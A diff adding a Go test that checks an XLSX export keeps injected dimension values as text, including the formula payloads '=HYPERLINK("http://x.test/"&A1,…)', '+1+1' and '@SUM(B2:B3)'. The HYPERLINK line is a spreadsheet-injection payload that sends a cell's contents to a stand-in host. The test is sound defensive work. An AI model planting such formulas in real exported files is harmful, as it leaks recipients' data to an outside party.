@@ -225,3 +225,30 @@ func TestXLSXExceptionAndApproval(t *testing.T) {
 		}
 	})
 }
+
+// Attack: a dimension's value loaded into the warehouse as a formula ("=HYPERLINK(…)", "+1+1",
+// "@SUM(…)") or looking like a number stays text in the workbook: no cell holds a formula,
+// and only the persons and the statistic are numbers.
+func TestAttackXLSXDimensionValuesStayText(t *testing.T) {
+	checked := "race,persons,sum\n\"=HYPERLINK(\"\"http://x.test/\"\"&A1,\"\"x\"\")\",40,200\n+1+1,41,205\n@SUM(B2:B3),42,210\n0042,43,215\n"
+	m := disclosure.Meta{Persons: "persons", Dimensions: []string{"race"}, Magnitudes: []string{"sum"}}
+	b, err := releasedXLSX([]byte(checked), m, nil, "exp-1", "t.xlsx")
+	must(t, err)
+	wb, err := xlsxwitness.Read(b)
+	must(t, err)
+	got := wb.Sheet("table")
+	want := [][]string{{"race", "persons", "sum"}, {`=HYPERLINK("http://x.test/"&A1,"x")`, "40", "200"}, {"+1+1", "41", "205"}, {"@SUM(B2:B3)", "42", "210"}, {"0042", "43", "215"}}
+	if got == nil || !slices.EqualFunc(got.Strings(), want, slices.Equal) {
+		t.Fatalf("sheet table %v, want %q", got, want)
+	}
+	for i, row := range got.Rows {
+		for j, c := range row {
+			if c.Formula {
+				t.Errorf("cell %s holds a formula", c.Ref)
+			}
+			if c.Number() != (i > 0 && j > 0) {
+				t.Errorf("cell %s %q: stored as a number %v", c.Ref, c.Value, c.Number())
+			}
+		}
+	}
+}
